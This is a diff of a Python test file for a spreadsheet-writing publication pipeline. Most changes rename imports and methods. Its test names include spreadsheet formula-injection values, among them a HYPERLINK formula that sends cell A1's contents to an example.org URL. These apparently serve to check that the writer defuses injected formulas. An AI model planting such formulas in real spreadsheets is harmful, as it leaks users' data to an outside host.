@@ -17,15 +17,16 @@ import pyarrow.parquet as pq
 import pytest
 
 from pipelines.publication.views.handling import HANDLING_NOTES, Audience
+from pipelines.publication.views.reading import Marts
 from pipelines.publication.workbooks import look
-from pipelines.publication.workbooks.marts import Marts
 from pipelines.publication.workbooks.sheets import About, Book, Chart, Charts, Column, Line, Sheet
+from pipelines.publication.workbooks.sql import open_marts
 from pipelines.publication.workbooks.writer import NO_ROWS, SAMPLE, write_book
 
 HANDLING = HANDLING_NOTES[Audience.INTERNAL]
 PLANTED = '=HYPERLINK("http://example.org/?"&A1,"Click")'
 NAMES = [PLANTED, "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "http://example.org", "{=1+1}", "12", "A & B <School>"]
-RATINGS = list(look.RATINGS)
+RATINGS = list(look.RATING_LOOKS)
 
 ROWS = Sheet(
     "Schools",
@@ -78,7 +79,7 @@ def marts(tmp_path: Path) -> Marts:
     folder = tmp_path / "build"
     folder.mkdir()
     pq.write_table(pa.table(schools), folder / "schools.parquet")
-    return Marts(folder, "998")
+    return open_marts(folder, "998")
 
 
 @pytest.fixture
@@ -184,7 +185,7 @@ def test_every_rating_is_coloured_by_its_word(written: Path) -> None:
         if str(given.sqref).startswith(f"D{header + 1}")
         for rule in given.rules
     }
-    for word, (_, ground) in look.RATINGS.items():
+    for word, (_, ground) in look.RATING_LOOKS.items():
         assert coloured[f'"{word}"'].endswith(ground.removeprefix("#"))
 
 
@@ -215,7 +216,7 @@ def test_colours_can_be_read() -> None:
     pairs |= {(ink, ground) for ink in (look.INK, look.MUTED) for ground in ("#FFFFFF", look.ENTRY_GROUND)}
     assert min(contrast(*pair) for pair in pairs) >= 4.5
     assert contrast(look.COUNTY_LINE, "#FFFFFF") >= 3 and contrast(look.REFERENCE_LINE, "#FFFFFF") >= 3
-    shades = sorted(luminance(ground) for _, ground in look.RATINGS.values())
+    shades = sorted(luminance(ground) for _, ground in look.RATING_LOOKS.values())
     assert all(low < high for low, high in pairwise(shades))  # no two print the same
 
 
@@ -253,7 +254,7 @@ def test_libreoffice_opens_it(written: Path, tmp_path: Path) -> None:
 
 
 def test_what_may_be_shown_is_asked_of_one_rule(marts: Marts) -> None:
-    (found,) = marts.rows(
+    (found,) = marts.query(
         "select shown('final', 5, null) as few, shown('final', 6, null) as enough,"
         " shown('final', null, null) as unknown,"
         " shown('local_unvalidated', null, null) as own_unknown, shown('local_unvalidated', 30, 3) as own_few_counted,"
